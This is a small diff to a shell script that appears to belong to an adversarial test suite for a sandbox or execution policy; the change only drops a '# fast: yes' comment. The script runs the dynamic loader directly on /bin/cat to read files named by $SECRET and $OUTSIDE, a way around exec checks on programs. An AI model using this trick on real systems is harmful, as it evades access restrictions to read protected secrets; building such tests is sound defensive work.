@@ -1,5 +1,4 @@
 # technique: run the dynamic loader directly (ld.so /bin/cat), bypassing exec checks on the program
-# fast: yes
 . ./.adv/world.env
 /lib64/ld-linux-x86-64.so.2 /bin/cat "$SECRET"
 /lib64/ld-linux-x86-64.so.2 --preload '' /bin/cat "$OUTSIDE"
